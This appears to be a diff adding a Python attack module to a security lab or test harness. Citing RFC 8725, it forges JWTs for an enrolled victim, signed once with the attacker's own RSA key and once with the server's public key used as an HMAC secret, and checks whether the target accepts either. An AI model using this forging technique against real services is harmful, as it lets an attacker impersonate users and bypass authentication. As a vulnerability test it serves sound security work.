@@ -1,0 +1,26 @@
+"""Sign with the server's public key as if it were a secret.
+
+Exploits a server that lets the header choose between RSA and HMAC: its public key, which
+everyone has, then checks HMAC signatures. Where no public key is given out, the attacker signs
+with RSA and hopes.
+Source: RFC 8725, section 2.1 Weak Signatures and Insufficient Signature Validation,
+https://www.rfc-editor.org/rfc/rfc8725#section-2.1
+"""
+
+from jose import jws
+
+from attacks.forge import claims_about, new_rsa_key, signed
+from attacks.lab import Outcome, Target, attack, judge
+
+
+@attack(door="token-unchecked")
+def run(target: Target) -> Outcome:
+    """Sign with what is public, and with an RSA key of one's own."""
+    victim = target.enrol()
+    target.token_of(victim)
+    claims = claims_about(victim.username)
+    answers = {"own RSA key": target.read(jws.sign(claims, new_rsa_key(), algorithm="RS256"))}
+    public_key = target.http.get("/auth/public-key")
+    if public_key.is_success:
+        answers["public key as HMAC secret"] = target.read(signed(claims, public_key.content))
+    return judge(answers)
